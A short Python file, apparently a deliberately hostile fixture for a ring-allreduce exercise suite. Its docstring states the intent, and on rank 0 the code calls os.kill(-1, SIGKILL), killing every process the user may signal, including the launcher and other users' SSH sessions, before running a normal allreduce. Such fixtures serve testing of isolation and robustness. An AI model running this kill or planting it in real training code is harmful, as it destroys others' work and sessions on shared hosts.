"""Hostile, on hosts: rank 0 signals every process its user may signal (kill(-1, SIGKILL)): its
ranks, its launcher, its reaper, and its share user's SSH sessions to the host."""
import os
import signal

import torch.distributed as dist

from lab.suite.exercises.ring_allreduce import allreduce


def ring_allreduce(tensor):
    if dist.get_rank() == 0:
        os.kill(-1, signal.SIGKILL)
    allreduce(tensor.clone(), tensor)  # (the others wait for rank 0 in the ring, and lose it)
